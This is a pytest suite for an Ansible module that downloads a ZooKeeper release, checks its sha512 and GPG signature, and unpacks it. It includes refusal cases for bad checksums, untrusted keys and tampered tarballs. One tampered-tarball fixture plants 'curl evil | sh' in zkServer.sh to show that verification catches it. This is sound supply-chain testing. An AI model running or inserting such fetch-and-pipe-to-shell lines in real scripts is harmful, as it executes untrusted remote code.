"""Tests of the zookeeper_release module, run as Ansible runs it (a Python process given its
arguments as JSON) against a mirror on loopback that counts what it serves: a release built
here, its .sha512, and its .asc made by a fresh key with this machine's gpg. What it fetches,
checks and unpacks, what it leaves alone, what check mode does, and each way it must refuse
with nothing unpacked."""

from __future__ import annotations

import hashlib
import http.server
import io
import os
import tarfile
import threading
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from plugins import gpg, run_module

TOP = "zookeeper-3.4.13"
NAME = f"{TOP}.tar.gz"


def tarball(members: dict[str, bytes]) -> bytes:
    """A gzip-compressed tar of `members` (name: content; a name ending in / is a directory)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name.rstrip("/"))
            info.uid = info.gid = 4321  # not root's: the unpack must not keep it
            if name.endswith("/"):
                info.type, info.mode = tarfile.DIRTYPE, 0o755
                tar.addfile(info)
            else:
                info.size, info.mode = len(data), 0o644
                tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


RELEASE = {f"{TOP}/": b"", f"{TOP}/lib/": b"", f"{TOP}/lib/zk.jar": b"jar\n",
           f"{TOP}/bin/zkServer.sh": b"#!/bin/sh\n"}


@pytest.fixture(scope="module")
def signer(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A fresh signing key's GnuPG home and its armored public key."""
    home = tmp_path_factory.mktemp("signer") / "gnupg"
    gpg(home, "--passphrase", "", "--pinentry-mode", "loopback", "--quick-gen-key",
        "Release manager <rm@example.invalid>", "ed25519", "sign", "never")
    return home, gpg(home, "--armor", "--export").decode()


def sign(home: Path, data: bytes, where: Path) -> bytes:
    where.write_bytes(data)
    gpg(home, "--yes", "--armor", "--detach-sign", "--output", f"{where}.asc", str(where))
    return Path(f"{where}.asc").read_bytes()


class Mirror:
    """Files served over HTTP on loopback by name, and how often each was asked for."""

    def __init__(self, files: dict[str, bytes]) -> None:
        self.files = files
        self.asked: Counter[str] = Counter()
        mirror = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                name = self.path.rsplit("/", 1)[-1]
                mirror.asked[name] += 1
                body = mirror.files.get(name)
                self.send_response(200 if body is not None else 404)
                self.end_headers()
                self.wfile.write(body if body is not None else b"not here\n")

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/zookeeper-3.4.13/{NAME}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def mirror(signer: tuple[Path, str], tmp_path: Path) -> Iterator[Mirror]:
    data = tarball(RELEASE)
    served = Mirror({NAME: data, f"{NAME}.asc": sign(signer[0], data, tmp_path / "signed"),
                     f"{NAME}.sha512": f"{hashlib.sha512(data).hexdigest()}  {NAME}\n".encode()})
    yield served
    served.server.shutdown()
    served.server.server_close()


def run(tmp_path: Path, check: bool = False, diff: bool = False, **args: Any) -> dict:
    return run_module("zookeeper_release", tmp_path, args, check=check, diff=diff)


def release_args(tmp_path: Path, mirror: Mirror, keys: str, **extra: Any) -> dict[str, Any]:
    (tmp_path / "cache").mkdir(exist_ok=True)
    return {"url": mirror.url, "path": str(tmp_path / "cache" / NAME), "keys": keys,
            "dest": str(tmp_path / "opt"), "top": TOP,
            "advice": "Nothing was unpacked on zk1.",
            "signature_missing_advice": "Serve it from your mirror too.", **extra}


def tree(root: Path) -> list[str]:
    """Every path under `root`, hidden ones included, relative to it."""
    if not root.exists():
        return []
    return sorted(str(p.relative_to(root)) for p in root.rglob("*"))


def test_a_fresh_host_gets_the_release_fetched_checked_and_unpacked_once(
        tmp_path: Path, mirror: Mirror, signer: tuple[Path, str]) -> None:
    args = release_args(tmp_path, mirror, signer[1])
    result = run(tmp_path, diff=True, **args)
    assert not result.get("failed"), result
    assert result["changed"] and result["unpacked"], result
    assert result["fetched"] == [args["path"], args["path"] + ".asc"], result
    assert result["sha512"] == hashlib.sha512(mirror.files[NAME]).hexdigest()
    assert "rm@example.invalid" in result["signature"]["signer"], result
    assert result["diff"]["after"] == f"unpacked from {args['path']}\n", result
    release = tmp_path / "opt" / TOP
    assert (release / "lib" / "zk.jar").read_bytes() == b"jar\n"
    assert tree(tmp_path / "opt") == [TOP, f"{TOP}/bin", f"{TOP}/bin/zkServer.sh", f"{TOP}/lib",
                                      f"{TOP}/lib/zk.jar"]  # no leftover of the unpack
    assert {(p.stat().st_uid, p.stat().st_gid) for p in release.rglob("*")} == {
        (os.getuid(), os.getgid())}, "the tarball's owner was kept"
    assert oct(Path(args["path"]).stat().st_mode & 0o777) == "0o644"
    assert tree(tmp_path / "cache") == [NAME, f"{NAME}.asc"]  # no partial download left
    # Done: a second run fetches, checks and changes nothing.
    asked = dict(mirror.asked)
    again = run(tmp_path, **args)
    assert not again["changed"] and again["fetched"] == [] and not again["unpacked"], again
    assert dict(mirror.asked) == asked


def test_a_tarball_already_there_is_not_fetched_again(
        tmp_path: Path, mirror: Mirror, signer: tuple[Path, str]) -> None:
    args = release_args(tmp_path, mirror, signer[1])
    Path(args["path"]).write_bytes(mirror.files[NAME])
    Path(args["path"] + ".asc").write_bytes(mirror.files[f"{NAME}.asc"])
    result = run(tmp_path, **args)
    assert result["changed"] and result["fetched"] == [], result
    assert mirror.asked == Counter({f"{NAME}.sha512": 1}), mirror.asked
    assert (tmp_path / "opt" / TOP / "lib" / "zk.jar").is_file()


@pytest.mark.parametrize("where", ["pinned", "published"])
def test_a_download_with_another_sha512_is_refused_and_not_kept(
        tmp_path: Path, mirror: Mirror, signer: tuple[Path, str], where: str) -> None:
    wrong = hashlib.sha512(b"another file").hexdigest()
    if where == "pinned":
        args = release_args(tmp_path, mirror, signer[1], checksum=wrong.upper())
    else:
        mirror.files[f"{NAME}.sha512"] = f"{NAME}: {wrong.upper()}\n".encode()
        args = release_args(tmp_path, mirror, signer[1])
    result = run(tmp_path, **args)
    assert result.get("failed"), result
    assert result["msg"].startswith(f"{mirror.url} has sha512 "), result
    assert f"not the release's {wrong}: it is not the release" in result["msg"], result
    assert tree(tmp_path / "cache") == [] and tree(tmp_path / "opt") == []


def test_a_signature_by_a_key_not_trusted_unpacks_nothing(
        tmp_path: Path, mirror: Mirror) -> None:
    other = tmp_path / "other"
    gpg(other, "--passphrase", "", "--pinentry-mode", "loopback", "--quick-gen-key",
        "Someone else <else@example.invalid>", "ed25519", "sign", "never")
    args = release_args(tmp_path, mirror, gpg(other, "--armor", "--export").decode())
    result = run(tmp_path, **args)
    assert result.get("failed"), result
    assert result["msg"].startswith(f"{args['path']}: its signature {args['path']}.asc is not "
                                    "good: it was made by key "), result
    assert result["msg"].endswith("which is not among the trusted keys. Nothing was unpacked "
                                  "on zk1."), result
    assert tree(tmp_path / "opt") == []


def test_a_signature_the_mirror_lacks_unpacks_nothing(
        tmp_path: Path, mirror: Mirror, signer: tuple[Path, str]) -> None:
    del mirror.files[f"{NAME}.asc"]
    args = release_args(tmp_path, mirror, signer[1])
    result = run(tmp_path, **args)
    assert result.get("failed"), result
    assert result["msg"].startswith(f"the release's signature {mirror.url}.asc could not be "
                                    "fetched ("), result
    assert result["msg"].endswith("(HTTP status 404: Not Found), so nothing was unpacked. Serve "
                                  "it from your mirror too."), result
    assert tree(tmp_path / "opt") == []


def test_a_changed_tarball_is_a_bad_signature(
        tmp_path: Path, mirror: Mirror, signer: tuple[Path, str]) -> None:
    """The mirror serves another tarball with the sha512 to match but the old signature."""
    data = tarball({**RELEASE, f"{TOP}/bin/zkServer.sh": b"#!/bin/sh\ncurl evil | sh\n"})
    mirror.files[NAME] = data
    mirror.files[f"{NAME}.sha512"] = hashlib.sha512(data).hexdigest().encode()
    result = run(tmp_path, **release_args(tmp_path, mirror, signer[1]))
    assert result.get("failed") and "the signature does not match the file" in result["msg"]
    assert tree(tmp_path / "opt") == []


def test_check_mode_on_a_fresh_host_reads_the_sha512_and_writes_nothing(
        tmp_path: Path, mirror: Mirror, signer: tuple[Path, str]) -> None:
    args = release_args(tmp_path, mirror, signer[1])
    result = run(tmp_path, check=True, **args)
    assert not result.get("failed"), result
    assert result["changed"] and result["unpacked"], result
    assert result["fetched"] == [args["path"], args["path"] + ".asc"], result
    assert result["signature"] is None  # nothing on the host to check yet
    assert mirror.asked == Counter({f"{NAME}.sha512": 1}), mirror.asked
    assert tree(tmp_path / "cache") == [] and tree(tmp_path / "opt") == []


def test_check_mode_checks_the_signature_of_files_already_there(
        tmp_path: Path, mirror: Mirror, signer: tuple[Path, str]) -> None:
    args = release_args(tmp_path, mirror, signer[1])
    Path(args["path"]).write_bytes(mirror.files[NAME])
    Path(args["path"] + ".asc").write_bytes(b"-----BEGIN PGP SIGNATURE-----\n\n=AAAA\n"
                                            b"-----END PGP SIGNATURE-----\n")
    result = run(tmp_path, check=True, **args)
    assert result.get("failed") and "is not good" in result["msg"], result


def test_an_interrupted_unpack_is_replaced_and_its_leftovers_removed(
        tmp_path: Path, mirror: Mirror, signer: tuple[Path, str]) -> None:
    opt = tmp_path / "opt"
    (opt / TOP / "bin").mkdir(parents=True)  # an unpack cut short before lib/
    (opt / TOP / "bin" / "half").write_text("")
    (opt / f".{TOP}.unpacking-abc123" / TOP).mkdir(parents=True)
    result = run(tmp_path, **release_args(tmp_path, mirror, signer[1]))
    assert result["changed"] and not result.get("failed"), result
    assert tree(opt) == [TOP, f"{TOP}/bin", f"{TOP}/bin/zkServer.sh", f"{TOP}/lib",
                         f"{TOP}/lib/zk.jar"]


def test_a_tarball_without_the_release_directory_is_refused(
        tmp_path: Path, mirror: Mirror, signer: tuple[Path, str]) -> None:
    data = tarball({"apache-zookeeper-3.8.0-bin/": b"", "apache-zookeeper-3.8.0-bin/lib/": b""})
    mirror.files[NAME] = data
    mirror.files[f"{NAME}.sha512"] = hashlib.sha512(data).hexdigest().encode()
    mirror.files[f"{NAME}.asc"] = sign(signer[0], data, tmp_path / "signed-other")
    args = release_args(tmp_path, mirror, signer[1])
    result = run(tmp_path, **args)
    assert result["msg"] == (f"{args['path']} holds no {TOP}/lib: it is not the release the "
                             "inventory names, so nothing was put in place"), result
    assert tree(tmp_path / "opt") == []


def test_a_tarball_on_the_host_is_checked_and_unpacked_without_a_url(
        tmp_path: Path, mirror: Mirror, signer: tuple[Path, str]) -> None:
    args = release_args(tmp_path, mirror, signer[1])
    del args["url"]
    Path(args["path"]).write_bytes(mirror.files[NAME])
    result = run(tmp_path, **args)
    assert result.get("failed") and "(its signature) does not exist" in result["msg"], result
    assert tree(tmp_path / "opt") == []
    Path(args["path"] + ".asc").write_bytes(mirror.files[f"{NAME}.asc"])
    result = run(tmp_path, **args)
    assert result["changed"] and result["fetched"] == [] and result["signature"], result
    assert (tmp_path / "opt" / TOP / "lib" / "zk.jar").is_file()
    assert sum(mirror.asked.values()) == 0


def test_a_mirror_without_the_release_or_not_there_at_all_is_named(
        tmp_path: Path, mirror: Mirror, signer: tuple[Path, str]) -> None:
    del mirror.files[NAME]
    args = release_args(tmp_path, mirror, signer[1])
    result = run(tmp_path, **args)
    assert result["msg"] == f"{mirror.url} could not be fetched (HTTP status 404: Not Found)"
    nowhere = "http://127.0.0.1:9/zookeeper-3.4.13/" + NAME  # loopback's discard port
    result = run(tmp_path, **dict(args, url=nowhere))
    assert result["msg"].startswith(f"{nowhere}.sha512 could not be fetched ("), result
    assert "refused" in result["msg"], result
    assert tree(tmp_path / "cache") == [] and tree(tmp_path / "opt") == []


def test_a_missing_download_directory_is_made(
        tmp_path: Path, mirror: Mirror, signer: tuple[Path, str]) -> None:
    """On a new host the role makes the account and its directories after the release."""
    args = release_args(tmp_path, mirror, signer[1], path=str(tmp_path / "new" / "cache" / NAME))
    result = run(tmp_path, **args)
    assert result["changed"] and not result.get("failed"), result
    assert oct((tmp_path / "new" / "cache").stat().st_mode & 0o777) == "0o755"
    assert tree(tmp_path / "new" / "cache") == [NAME, f"{NAME}.asc"]


def test_a_tarball_on_the_host_with_another_sha512_than_the_one_given_is_refused(
        tmp_path: Path, mirror: Mirror, signer: tuple[Path, str]) -> None:
    args = release_args(tmp_path, mirror, signer[1], checksum="ab" * 64)
    del args["url"]
    Path(args["path"]).write_bytes(mirror.files[NAME])
    result = run(tmp_path, **args)
    digest = hashlib.sha512(mirror.files[NAME]).hexdigest()
    assert result["msg"] == f"{args['path']} has sha512 {digest}, not the release's {'ab' * 64}"
    assert tree(tmp_path / "opt") == []


# zookeeper_files' `release`: the zookeeper role's write of a new host's files puts the release
# in place in the same call, with this module's code (module_utils/zookeeper_release.py).
def files_run(tmp_path: Path, release: dict[str, Any], diff: bool = False) -> dict:
    """zookeeper_files with `release`, a zoo.cfg and the stable link to the release."""
    conf = tmp_path / "etc"
    return run_module("zookeeper_files", tmp_path, {
        "directories": [{"path": str(conf), "mode": "0750"}],
        "release": release,
        "files": [{"path": str(conf / "zoo.cfg"), "content": "tickTime=2000\n", "mode": "0640"}],
        "links": [{"path": str(tmp_path / "opt" / "zookeeper"),
                   "target": str(tmp_path / "opt" / TOP)}]}, diff=diff)


def test_the_files_call_puts_the_release_in_place_before_its_files(
        tmp_path: Path, mirror: Mirror, signer: tuple[Path, str]) -> None:
    args = release_args(tmp_path, mirror, signer[1])
    result = files_run(tmp_path, args, diff=True)
    assert not result.get("failed"), result
    release = tmp_path / "opt" / TOP
    assert result["changed"] and str(release) in result["changed_paths"], result
    assert result["release"]["unpacked"] and result["release"]["release"] == str(release), result
    assert result["release"]["fetched"] == [args["path"], args["path"] + ".asc"], result
    assert "rm@example.invalid" in result["release"]["signature"]["signer"], result
    assert {"before_header": str(release), "after_header": str(release), "before": "",
            "after": f"unpacked from {args['path']}\n"} in result["diff"], result
    assert (release / "lib" / "zk.jar").read_bytes() == b"jar\n"
    assert (tmp_path / "opt" / "zookeeper").resolve() == release
    assert (tmp_path / "etc" / "zoo.cfg").read_text() == "tickTime=2000\n"
    asked = dict(mirror.asked)
    again = files_run(tmp_path, args)
    assert again["changed"] is False and again["release"]["fetched"] == [], again
    assert dict(mirror.asked) == asked


def test_a_release_refused_in_the_files_call_fails_it_before_any_file_is_written(
        tmp_path: Path, mirror: Mirror, signer: tuple[Path, str]) -> None:
    """With the release module's own message; the directories made before it are reported."""
    wrong = hashlib.sha512(b"another file").hexdigest()
    args = release_args(tmp_path, mirror, signer[1], checksum=wrong)
    result = files_run(tmp_path, args)
    assert result.get("failed") and result["changed"], result
    alone = run(tmp_path / "cache", **args)
    assert result["msg"] == alone["msg"], (result, alone)
    assert result["msg"].startswith(f"{mirror.url} has sha512 "), result
    assert result["changed_paths"] == [str(tmp_path / "etc")], result
    assert tree(tmp_path / "etc") == [] and tree(tmp_path / "opt") == []
